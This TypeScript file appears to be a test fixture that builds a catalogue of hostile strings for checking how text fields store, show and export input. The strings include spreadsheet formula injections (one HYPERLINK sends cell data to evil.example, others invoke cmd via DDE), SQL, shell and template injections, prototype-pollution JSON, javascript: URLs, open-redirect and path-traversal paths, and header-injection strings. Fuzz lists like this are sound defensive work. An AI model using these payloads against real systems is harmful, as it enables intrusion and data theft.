import { markup } from './markup';
import { unicode } from './unicode';

/** A text that is dangerous to show, store or export. */
export interface HostileString {
  /** A description in plain letters. */
  name: string;
  text: string;
}

/** The mark that a script leaves on the page when it runs. */
export const scriptMark = 'HOSTILE_SCRIPT_RAN';

const prefixed = (prefix: string, texts: readonly string[]): HostileString[] =>
  texts.map((text, place) => ({ name: `${prefix} ${place + 1}`, text }));

const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '|', '%', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("https://evil.example?x="&A1,"click")`,
  `${sign}DDE("cmd";"/C calc";"a")`,
]);

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
  'toJSON',
  'length',
  'null',
  'undefined',
  'NaN',
  'true',
  'false',
  '[object Object]',
  '0',
  '-0',
  '',
  ' ',
  '.',
  '..',
  '$',
  '$where',
  '#',
  '?',
  '&',
  '*',
  '%',
  '\\',
];

const jsonTexts = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"a":1,"a":2}',
  '{"toJSON":"x","then":"y"}',
  '[[[[[[[[]]]]]]]]',
  '{"a":',
  '{"a":1}}',
  '{"a":01}',
  "{'a':1}",
  '{"a":1,}',
  '/* */{}',
  '\uFEFF{}',
  '{"a":"\\u0000"}',
  '{"a":"\\ud800"}',
  '{"\\u005f_proto__":1}',
];

const numbers = [
  '9007199254740993',
  '1e400',
  '-1e400',
  '1e-400',
  '0.1000000000000000055511151231257827',
  '123456789012345678901234567890',
  '1.0',
  '1.10',
  '-0',
  '0x10',
  '1_000',
  '٣',
  '１２',
  'Infinity',
  '1,5',
  '1 000',
];

const shell = [
  "'; drop table users; --",
  "' or '1'='1",
  '" or ""="',
  '1; select pg_sleep(9)',
  '$(id)',
  '`id`',
  '| id',
  '; id',
  '&& id',
  '\n id',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{constructor.constructor("x")()}}',
  '%s%s%s%n',
  '%00',
  '%0d%0aSet-Cookie:x=1',
  '%2e%2e%2f',
  '%252e%252e%252f',
  '$t(common:cancel)',
  '{{count}}',
  '$t({{x}})',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>1</script>',
  'vbscript:x',
  'blob:null/1',
  'file:///etc/passwd',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '/%5cevil.example',
  '/%2f/evil.example',
  '/.//evil.example',
  '/..//evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https://console@evil.example',
  'https://evil.example#@console',
  'http://[::1',
  '../../../etc/passwd',
  '..\\..\\windows',
  '....//....//etc',
  '/etc/passwd\u0000.png',
  'CON',
  'aux.txt',
  'a/b',
  'a\\b',
  '.htaccess',
  'x.exe\u202Egnp.',
  'https://evil.example/?app_token=x',
];

const headers = [
  'a\r\nSet-Cookie: x=1',
  'a\nBcc: evil@evil.example',
  'a\r\n\r\n<html>',
  'a\u2028b',
  'a\u2029b',
  'a\u0085b',
  '"; filename="evil.exe',
  "a'b",
  'a"b',
  'a;b',
  'a,b',
];

const long = [
  'x'.repeat(100_000),
  'é'.repeat(50_000),
  '漢'.repeat(20_000),
  'a '.repeat(50_000),
  '\n'.repeat(10_000),
  '<b>'.repeat(20_000),
  '['.repeat(10_000),
  '{"a":'.repeat(5_000),
  'W'.repeat(5_000),
  '👩‍👩‍👧‍👦'.repeat(2_000),
  'a\u0301'.repeat(10_000),
];

const base: HostileString[] = [
  ...prefixed('markup', markup(scriptMark)),
  ...prefixed('unicode', unicode),
  ...prefixed('formula', formulas),
  ...prefixed('key', keys),
  ...prefixed('json', jsonTexts),
  ...prefixed('number', numbers),
  ...prefixed('injection', shell),
  ...prefixed('address', addresses),
  ...prefixed('header', headers),
  ...prefixed('long', long),
];

const texts = new Set<string>();

/** At least 500 different texts that a text field may contain: well-formed and without NUL. */
export const hostileStrings: readonly HostileString[] = base.filter(({ text }) => {
  if (texts.has(text) || text.includes('\0') || !text.isWellFormed()) return false;
  texts.add(text);
  return true;
});

/** Texts that no text field accepts: NUL and halves of surrogate pairs. */
export const unstorableStrings: readonly HostileString[] = prefixed('unstorable', [
  'a\u0000b',
  '\u0000',
  '\uD800',
  'a\uDC00b',
  '\uDE00\uD83D',
  'ab\uD83D',
]);

/** A line of a megabyte, as in a log. */
export const megabyteLine = `${'<i>0123456789abcdef</i>'.repeat(48_000)}end`;
